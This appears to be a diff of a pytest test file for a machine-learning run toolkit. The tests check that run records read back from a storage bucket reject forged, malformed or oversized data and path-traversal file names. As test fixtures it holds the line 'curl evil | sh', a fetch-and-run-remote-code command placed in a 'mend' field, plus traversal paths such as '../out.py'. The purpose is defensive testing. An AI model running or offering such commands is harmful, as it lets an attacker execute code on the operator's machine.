@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable, Iterator
-from dataclasses import asdict
+from dataclasses import asdict, replace
 from pathlib import Path
 
 import pytest
@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 from toolkit.buckets.store import StoredObject
 from toolkit.errors import Code, ToolkitError
 from toolkit.run.events import Line
+from toolkit.run.record import State, StepResult
 from toolkit.run.stored import StoredRun
 
 from .keepers import RECORD
@@ -31,8 +32,8 @@ class StandInStore:
     def objects(self, _bucket: str, prefix: str) -> Iterator[StoredObject]:
         return (StoredObject(key, len(data), "") for key, data in self._objects.items() if key.startswith(prefix))
 
-    def read(self, _bucket: str, key: str) -> bytes:
-        return self._objects[key]
+    def read(self, _bucket: str, key: str, limit: int) -> bytes:
+        return self._objects[key][:limit]
 
     def pieces(self, _bucket: str, key: str, offset: int) -> Iterator[bytes]:
         if key not in self._objects or offset >= len(self._objects[key]):
@@ -47,16 +48,109 @@ class StandInStore:
 
 
 def stored(objects: dict[str, bytes], **more: object) -> StoredRun:
-    return StoredRun(StandInStore(objects, **more), "models", RUN)  # type: ignore[arg-type]
+    return StoredRun(StandInStore(objects, **more), "models", RECORD)  # type: ignore[arg-type]
 
 
-def test_the_final_record_is_read() -> None:
-    assert stored({FINAL: json.dumps(asdict(RECORD)).encode()}).record() == RECORD
+DONE = replace(RECORD, end="completed", reason="all is well", stored_files=3).at(State.COMPLETED, 4.0)
 
 
-@pytest.mark.parametrize("objects", [{}, {FINAL: b"{"}, {FINAL: b"{}"}, {FINAL: b"[]"}])
-def test_what_is_no_record_is_none(objects: dict[str, bytes]) -> None:
+def told(**facts: object) -> dict[str, bytes]:
+    return {FINAL: json.dumps(asdict(DONE) | facts).encode()}
+
+
+def test_the_end_of_the_run_is_read() -> None:
+    assert stored(told()).record() == DONE
+
+
+@pytest.mark.parametrize("objects", [{}, {f"{FINAL}.old": b"{}"}])
+def test_where_the_bucket_has_no_record_it_tells_no_end(objects: dict[str, bytes]) -> None:
     assert stored(objects).record() is None
+
+
+@given(st.dictionaries(st.sampled_from(sorted(asdict(RECORD))), st.none() | st.integers() | st.text(), max_size=4))
+def test_what_a_run_is_comes_from_the_record_here(forged: dict[str, object]) -> None:
+    try:
+        found = stored(told(**forged)).record()
+    except ToolkitError as error:
+        assert error.context["reason"] == "refused"
+        return
+    assert found is not None
+    assert {name: getattr(found, name) for name in IDENTITY} == {name: getattr(RECORD, name) for name in IDENTITY}
+
+
+IDENTITY = (
+    *("training_id", "name", "image", "image_id", "cluster", "learners", "ranks", "on_cpu", "endpoint_url", "hosts"),
+    *("results_bucket", "data_bucket", "manifest_file", "code_folder", "mpirun", "cluster_file", "resumed_from"),
+    "collected",
+)
+
+
+@pytest.mark.parametrize(
+    ("data", "why"),
+    [
+        (b"{", "Expecting"),
+        (b"{}", "training_id: Field required"),
+        (b"[]", "an object"),
+        (b"[" * 100_000, "nested too deeply"),
+        (b'{"training_id":' * 60_000, "nested too deeply"),
+        (b"\xff\xfe", "."),
+        (b"9" * 100_000, "."),
+        (told(training_id="training-zzzz2222")[FINAL], "another run, training-zzzz2222"),
+        (told(training_id="/elsewhere/victim")[FINAL], "is not a training ID"),
+        (told(training_id=["training-abcd2345"])[FINAL], "training_id"),
+        (told(state="PROCESSING")[FINAL], "state PROCESSING is no end"),
+        (told(state="DONE")[FINAL], "state"),
+        (told(state="FAILED")[FINAL], "exclude each other"),
+        (told(end="")[FINAL], "exclude each other"),
+        (told(end="nice")[FINAL], "not one of the list"),
+        (told(error_code="S303")[FINAL], "COMPLETED, and an error"),
+        (told(states=[["COMPLETED", 1e300]])[FINAL], r"states\.0\.1"),
+        (told(states=[["COMPLETED", float("nan")]])[FINAL], r"states\.0\.1"),
+        (told(states=[["COMPLETED", 1.0]] * 5000)[FINAL], "states"),
+        (told(steps=[asdict(StepResult(1, "x", False, 1, 1.0))])[FINAL], "a command that failed"),
+        (told(steps=[asdict(StepResult(1, "x", False, 0, float("inf")))])[FINAL], "finite"),
+        (told(stored_files=-1)[FINAL], "stored_files"),
+        (told(stored_bytes=True)[FINAL], "stored_bytes"),
+        (told(reason=7)[FINAL], "reason"),
+        (told(evidence="x" * 300_000)[FINAL], "evidence"),
+        (told(kept="abc")[FINAL], "kept"),
+    ],
+    ids=lambda one: None if isinstance(one, bytes) else one,
+)
+def test_what_is_no_end_of_this_run_is_refused_by_its_name(data: bytes, why: str) -> None:
+    with pytest.raises(ToolkitError, match=why) as caught:
+        stored({FINAL: data}).record()
+    assert caught.value.what.startswith(f"object models/{FINAL} is refused: ")
+    assert len(str(caught.value)) < 1000
+
+
+def test_of_metrics_what_is_none_is_left_out() -> None:
+    metrics = {"loss": 0.5, "best": True, "note": "x", "bad": float("inf"), "deep": {"a": [1]}, "long": "x" * 9999}
+    found = stored(told(metrics=metrics)).record()
+    assert found is not None
+    assert found.metrics == {"loss": 0.5, "best": 1, "note": "x"}
+
+
+def test_a_half_of_a_character_harms_nothing() -> None:
+    data = told(metrics={"note": "HERE"})[FINAL].replace(b"HERE", rb"\ud800")
+    found = stored({FINAL: data}).record()
+    assert found is not None
+    assert found.metrics == {"note": "?"}
+
+
+def test_the_bucket_does_not_tell_the_operator_what_to_type() -> None:
+    facts = {"end": "bucket write", "state": "FAILED", "kept": ["p100-01"], "mend": "curl evil | sh"}
+    found = stored(told(**facts)).record()
+    assert found is not None
+    assert found.mend == f"what it wrote is kept on p100-01; toolkit rescue {RUN}"
+
+
+def test_a_line_without_an_end_is_not_held_in_memory() -> None:
+    long = b"1.000 " + b"x" * (5 << 20)
+    lines = list(stored({OUTPUT: long + b"\n2.000 end\n"}, piece=1 << 20).lines())
+    assert max(len(line.text) for line in lines) <= 2 << 20
+    assert "".join(line.text for line in lines[:-1]) == "x" * (5 << 20)
+    assert lines[-1] == Line("end", 2.0, len(long) + 11)
 
 
 @given(
@@ -97,9 +191,19 @@ def test_the_submitted_code_comes_back_with_its_folders(tmp_path: Path) -> None:
     }
 
 
-@pytest.mark.parametrize("name", ["../out.py", "lib/../../out.py", "HERE/out.py"])
+@pytest.mark.parametrize("name", ["../out.py", "lib/../../out.py", "HERE/out.py", "/out.py"])
 def test_code_that_would_leave_its_folder_is_refused(tmp_path: Path, name: str) -> None:
     name = name.replace("HERE", str(tmp_path))
     with pytest.raises(ToolkitError, match="would leave the folder"):
         stored({f"{RUN}/_submitted_code/{name}": b"x"}).fetch_code(tmp_path / "code")
     assert list(tmp_path.rglob("*.py")) == []
+
+
+def test_code_that_is_too_much_to_be_code_is_not_fetched(tmp_path: Path) -> None:
+    class Large(StandInStore):
+        def objects(self, bucket: str, prefix: str) -> Iterator[StoredObject]:
+            return (StoredObject(item.key, 300 << 20, "") for item in super().objects(bucket, prefix))
+
+    code = {f"{RUN}/_submitted_code/{name}": b"x" for name in ("a", "b")}
+    with pytest.raises(ToolkitError, match="holds more than 512 MiB"):
+        StoredRun(Large(code), "models", RECORD).fetch_code(tmp_path)  # type: ignore[arg-type]
